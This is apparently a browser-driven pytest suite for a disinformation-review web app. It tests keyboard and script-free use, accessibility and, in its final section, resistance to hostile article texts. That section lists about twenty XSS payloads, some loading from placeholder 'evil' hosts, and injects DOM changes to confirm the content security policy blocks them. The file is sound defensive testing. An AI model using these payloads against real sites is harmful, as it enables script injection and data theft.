"""The analysts' page in a real browser: by keyboard alone, by mouse without scripts, and with hostile texts."""

from __future__ import annotations

from typing import TYPE_CHECKING
from urllib.parse import quote

import pytest

from tests.factories import make_feed, make_score
from tests.functional.review_browser import Page, find_browser, run_browser
from tests.functional.review_server import PASSWORD, TEXT, ReviewServer, make_flag, serve_review

if TYPE_CHECKING:
    from monitor.decisions import Decision

COMMAND = find_browser()
pytestmark = [
    pytest.mark.skipif(COMMAND is None, reason="there is no Chromium or Chrome on this machine"),
    # A pipe of the ended browser may be found open by the garbage collector.
    pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning"),
]
ITEMS = 24


@pytest.fixture(scope="module")
def browser():
    with run_browser(COMMAND) as running:
        yield running


@pytest.fixture
def server(tmp_path):
    with serve_review(tmp_path, articles=ITEMS) as running:
        running.pipeline.index_text()
        yield running


def log_in_by_keyboard(page: Page, server: ReviewServer, name: str) -> None:
    page.open(f"{server.url}/login?lang=en")
    page.expect_focus("input#name")
    page.type(name)
    page.press("Tab")
    page.type(PASSWORD)
    with page.loading():
        page.press("Enter")
    assert page.path == "/queue"


def press_on(page: Page, key: str) -> None:
    with page.loading():
        page.press(key)


def live(server: ReviewServer, name: str = "anna"):
    found = server.parts.store.load_decisions(limit=500)
    return [one for one in found if one.is_live and one.account == name and one.answer.verdict != "skip"]


def open_titles(page: Page) -> list[str]:
    return list(page.evaluate("[...document.querySelectorAll('tbody th')].map(e => e.innerText)"))


# What is pressed before the verdict of the item with this number.
EXTRAS: dict[int, tuple[str, ...]] = {
    3: ("3",),
    5: ("v", "ArrowDown", "Escape"),
    7: ("m", "ArrowDown"),
    9: ("n", "text", "Escape"),
}


def decide_by_keyboard(page: Page, number: int) -> None:
    for key in EXTRAS.get(number, ()):
        if key == "text":
            page.expect_focus("textarea#note")
            page.type("c is no command here")
        else:
            page.press(key)
    press_on(page, "r" if number % 4 == 2 else "u" if number == 11 else "c")
    assert page.evaluate("document.querySelector('[role=status]').innerText").startswith("Kept: ")


def test_twenty_items_by_keyboard_alone(browser, server):
    page = browser.open_page()
    log_in_by_keyboard(page, server, "anna")
    press_on(page, "Enter")
    assert page.path.startswith("/item/")
    for number in range(20):
        decide_by_keyboard(page, number)
    made = list(reversed(live(server)))
    assert len({one.article_id for one in made}) == len(made) == 20
    assert made[3].answer.stance == "refutes"
    assert made[5].answer.narrative == "crimea_always_russian"
    assert made[7].answer.span is not None
    assert made[9].answer.note == "c is no command here"
    assert [one.answer.verdict for one in made].count("reject") == 5
    assert made[11].answer.verdict == "unsure"

    undo_the_last(page, server, made[-1].article_id)
    correct(page, server, made[0])
    assert len(live(server)) == 20
    assert page.errors == []
    assert server.parts.tally.reports == 0


def undo_the_last(page: Page, server: ReviewServer, article_id: str) -> None:
    press_on(page, "z")
    assert "The decision was undone" in page.text
    assert len(live(server)) == 19
    press_on(page, "r")
    assert (live(server)[0].article_id, live(server)[0].answer.verdict) == (article_id, "reject")


def correct(page: Page, server: ReviewServer, first: Decision) -> None:
    """Find an older decision by search, and change its stance."""
    page.open(f"{server.url}/search")
    page.expect_focus("input#q")
    page.type(first.title)
    press_on(page, "Enter")
    assert open_titles(page) == [first.title]
    tab_to(page, "a", first.title)
    press_on(page, "Enter")
    assert first.title in page.text
    page.press("2")
    press_on(page, "c")
    found = live(server)[0]
    assert (found.article_id, found.answer.stance, found.supersedes) == (first.article_id, "reports", first.id)


def tab_to(page: Page, tag: str, text: str) -> None:
    """Move the focus as somebody without a mouse does."""
    for _ in range(40):
        page.press("Tab")
        if (
            page.evaluate("document.activeElement.tagName.toLowerCase()") == tag
            and page.evaluate("document.activeElement.innerText") == text
        ):
            return
    raise AssertionError(f"{text!r} cannot be reached by Tab on {page.path}")


CLICKS = {1: ("input[name=stance][value=refutes]",), 2: ("summary", ".sentences label:nth-of-type(3)")}


def test_everything_without_scripts_by_mouse(browser, server):
    page = browser.open_page(scripts=False)
    page.open(f"{server.url}/login?lang=en")
    page.click("#name")
    page.type("anna")
    page.click("#password")
    page.type(PASSWORD)
    click_on(page, "main button")
    click_on(page, ".heading a")
    for number in range(20):
        for selector in CLICKS.get(number, ()):
            page.click(selector)
        click_on(page, "button.reject" if number % 4 == 3 else "button.confirm")
        assert "Kept: " in page.text
    made = list(reversed(live(server)))
    assert len({one.article_id for one in made}) == 20
    assert made[1].answer.stance == "refutes"
    assert made[2].answer.span is not None
    click_on(page, ".status button")
    assert "The decision was undone" in page.text
    assert len(live(server)) == 19
    page.open(f"{server.url}/search?q={quote(made[0].title)}")
    click_on(page, "tbody a")
    click_on(page, "button.reject")
    assert live(server)[0].supersedes == made[0].id


def test_filters_without_scripts(browser, server):
    page = browser.open_page(scripts=False)
    log_in_by_keyboard(page, server, "anna")
    page.click("details.filtering summary")
    page.click("input[name=flagged]")
    click_on(page, ".filters button")
    assert "flagged=1" in page.path


def click_on(page: Page, selector: str) -> None:
    with page.loading():
        page.click(selector)


def test_a_second_analyst_sees_the_rest(browser, server):
    first, second = browser.open_page(), browser.open_page()
    log_in_by_keyboard(first, server, "anna")
    press_on(first, "Enter")
    for _ in range(5):
        press_on(first, "c")
    log_in_by_keyboard(second, server, "bohdan")
    press_on(second, "Enter")
    assert second.path.partition("?")[0] != first.path.partition("?")[0], "nobody gets what somebody else has open"
    for _ in range(5):
        press_on(second, "c")
    done = {one.article_id for one in live(server)}
    theirs = live(server, "bohdan")
    shared = [one for one in theirs if one.article_id in done]
    assert all(one.scheme == "second" for one in shared)
    second.open(f"{server.url}/queue")
    titles = {one.title for one in live(server) + theirs}
    assert not titles & set(open_titles(second))


def test_a_filter_is_a_link_that_can_be_shared(browser, server):
    server.put("other", make_flag(0, narrative="maidan_coup"), title="Про інший наратив", text=TEXT.format(n=0))
    page = browser.open_page()
    log_in_by_keyboard(page, server, "anna")
    page.click("details.filtering summary")
    page.evaluate("document.querySelector('select[name=narrative]').value = 'maidan_coup'")
    click_on(page, ".filters button")
    assert open_titles(page) == ["Про інший наратив"]
    other = browser.open_page()
    log_in_by_keyboard(other, server, "bohdan")
    other.open(f"{server.url}{page.path}")
    assert open_titles(other) == ["Про інший наратив"]


def test_what_changed_under_the_analyst_is_shown_and_nothing_is_lost(browser, server):
    page = browser.open_page()
    log_in_by_keyboard(page, server, "anna")
    press_on(page, "Enter")
    title = page.evaluate("document.querySelector('h1').innerText")
    number = int(title.split()[2])
    page.press("n")
    page.type("my thoughts")
    page.press("Escape")
    server.clock.advance(minutes=5)
    server.put(f"e{number}", make_flag(number), title=f"{title}, уточнено", text=TEXT.format(n=number))
    press_on(page, "c")
    assert "The item changed while you read" in page.text
    assert f"{title}, уточнено" in page.text
    assert page.evaluate("document.querySelector('#note').value") == "my thoughts"
    assert page.evaluate("document.querySelector('ins').innerText").endswith("уточнено")
    assert live(server) == []
    press_on(page, "c")
    assert [one.revision for one in live(server)] == [2]


def test_one_key_shortcuts_can_be_switched_off(browser, server):
    page = browser.open_page()
    log_in_by_keyboard(page, server, "anna")
    press_on(page, "Enter")
    path = page.path
    page.click(".keys summary")
    page.click("#shortcuts")
    page.evaluate("document.activeElement.blur()")
    page.press("c")
    page.settle()
    assert page.path == path
    page.open(f"{server.url}/queue")
    assert live(server) == []


def test_the_keyboards_alphabet_does_not_matter(browser, server):
    page = browser.open_page()
    log_in_by_keyboard(page, server, "anna")
    press_on(page, "Enter")
    common = {"key": "с", "code": "KeyC", "text": "с", "windowsVirtualKeyCode": 67}
    with page.loading():
        page.send("Input.dispatchKeyEvent", type="keyDown", **common)
    assert [one.answer.verdict for one in live(server)] == ["confirm"]


@pytest.mark.parametrize("language", ["uk", "en"])
def test_every_page_can_be_used_by_screen_reader_and_on_a_phone(browser, server, language):
    page = browser.open_page(width=390, height=844)
    page.open(f"{server.url}/login?lang={language}")
    check_page(page, language)
    page.click("#name")
    page.type("lesia")
    page.click("#password")
    page.type(PASSWORD)
    with page.loading():
        page.press("Enter")
    if page.evaluate("document.documentElement.lang") != language:
        page.open(f"{server.url}/account")
        page.evaluate(f"document.querySelector('#language').value = '{language}'")
        click_on(page, "form[action='/language'] button")
    for path in ("/queue", "/next", "/search?q=%D0%B4", "/account", "/users", "/item/999", *OVERVIEWS):
        page.open(f"{server.url}{path}")
        check_page(page, language)


OVERVIEWS = ("/decisions", "/trends", "/feeds", "/bundle")
# What has no name for a screen reader: fields without label, buttons and links without text, pictures without a word.
NAMELESS = """[...document.querySelectorAll('input:not([type=hidden]), select, textarea, button, a[href], svg')].filter(e =>
  !(e.labels && e.labels.length) && !e.getAttribute('aria-label') && !e.closest('[aria-hidden=true]') && !e.textContent.trim()
).map(e => e.outerHTML)"""
# Row headings that a table leaves no room for.
SQUEEZED = "[...document.querySelectorAll('tbody th')].filter(e => e.getBoundingClientRect().width < 80).map(e => e.textContent)"
HEADINGS = "[...document.querySelectorAll('h1, h2, h3')].map(e => Number(e.tagName[1]))"


def check_page(page: Page, language: str) -> None:
    assert page.evaluate("document.documentElement.lang") == language
    assert page.evaluate(NAMELESS) == []
    headings = page.evaluate(HEADINGS)
    assert headings.count(1) == 1, page.path
    assert page.evaluate("document.querySelectorAll('main, header, footer').length") == 3
    assert page.evaluate("document.title").strip(" ·")
    assert page.evaluate("document.documentElement.scrollWidth") <= 390, f"{page.path} is wider than a phone"
    assert page.evaluate(SQUEEZED) == [], f"{page.path} breaks names into letters"
    page.evaluate("document.activeElement.blur()")
    page.evaluate("window.scrollTo(0, 0)")
    ids = page.evaluate("[...document.querySelectorAll('[id]')].map(e => e.id)")
    assert len(ids) == len(set(ids)), page.path
    assert page.evaluate("document.querySelector('a').className") == "skip", "the way past the menu comes first"


# Hostile texts

MARKUP = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "</h1></main></body><script src=http://evil{n}.example/x.js></script>",
    "<style>*{{background:url(http://evil{n}.example/a.png)}}</style>",
    '"><iframe src=javascript:alert({n})>',
    "' autofocus onfocus=alert({n}) x='",
    "<a href=javascript:alert({n})>тут</a>",
    "{{{{ 7*7 }}}}{{% raise %}}",
    "<meta http-equiv=refresh content='0;url=http://evil{n}.example/'>",
    "<base href=http://evil{n}.example/>",
    "<form action=http://evil{n}.example/><input name=csrf><button>Confirm",
    "<link rel=stylesheet href=http://evil{n}.example/s.css>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "</textarea><script>alert({n})</script>",
    "\u202e\u0000\u2028<b onmouseover=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert({n})>",
    "<object data=http://evil{n}.example/o.swf><embed src=http://evil{n}.example/e>",
    "]]><!--><script>alert({n})</script><!--",
)
HOSTILE = 200


def put_hostile_articles(server: ReviewServer) -> None:
    server.pipeline.sync_feeds([make_feed("agency", outlet=MARKUP[0].format(n=0))])
    for number in range(HOSTILE):
        words = " ".join(f"слово{number}x{k}" for k in range(12))
        bad = MARKUP[number % len(MARKUP)].format(n=number)
        score = make_score("fake_loyalty", 0.9, terms=(bad,))
        server.put(f"h{number}", score, title=f"{bad} {words}", text=f"{words} {bad}\n{bad} {bad}")
    server.pipeline.index_text()
    assert sum(server.parts.store.count_open().values()) == HOSTILE


def visit_every_item(page: Page, server: ReviewServer) -> None:
    """Open each item, and decide on every twentieth with a note as bad as the text."""
    for item in range(1, HOSTILE + 1):
        page.open(f"{server.url}/item/{item}")
        assert page.evaluate("document.querySelectorAll('.text script, .text img, .text iframe, .text form').length") == 0
        if item % 20 == 0:
            page.press("n")
            page.type(MARKUP[item % len(MARKUP)].format(n=item))
            page.press("Escape")
            press_on(page, "c")
    assert len(live(server)) == HOSTILE // 20


def test_hostile_articles_run_no_script_and_reach_no_other_place(browser, tmp_path):
    with serve_review(tmp_path, articles=0) as server:
        put_hostile_articles(server)
        page = browser.open_page()
        log_in_by_keyboard(page, server, "anna")
        while next_link := page.evaluate("(document.querySelector('a[rel=next]') || {}).href"):
            page.open(next_link)
        visit_every_item(page, server)
        for path in (*OVERVIEWS, f"/search?q={quote('слово7x1')}", f"/search?q={quote(MARKUP[0])}"):
            page.open(f"{server.url}{path}")
        page.open(f"{server.url}/item/1?order={quote(MARKUP[0])}&narrative={quote(MARKUP[5])}&done={quote(MARKUP[1])}")
        page.settle()
        assert page.dialogs == []
        assert page.errors == []
        elsewhere = [url for url in page.requests if not url.startswith((f"{server.url}/", "data:image/svg+xml"))]
        assert elsewhere == []
        assert server.parts.tally.reports == 0, "nothing even had to be refused"


def test_what_slips_into_a_page_is_refused_and_reported(browser, server):
    """The second wall: were a text ever to become markup, the policy would stop it and tell us."""
    page = browser.open_page()
    log_in_by_keyboard(page, server, "anna")
    for slip in (
        "{const i = document.createElement('img'); i.src = 'http://127.0.0.1:1/x.png'; document.body.append(i)}",
        "{const f = document.createElement('iframe'); f.src = 'http://127.0.0.1:1/'; document.body.append(f)}",
        "document.body.setAttribute('style', 'background: url(http://127.0.0.1:1/y.png)')",
        "document.body.setAttribute('onclick', 'alert(1)')",
        "document.body.innerHTML += '<script>alert(1)</script>'",
    ):
        page.evaluate(slip)
    page.click("h1")
    page.settle()
    assert page.dialogs == []
    assert server.parts.tally.reports >= 5
    assert [url for url in page.requests if url.endswith("/csp-report")]
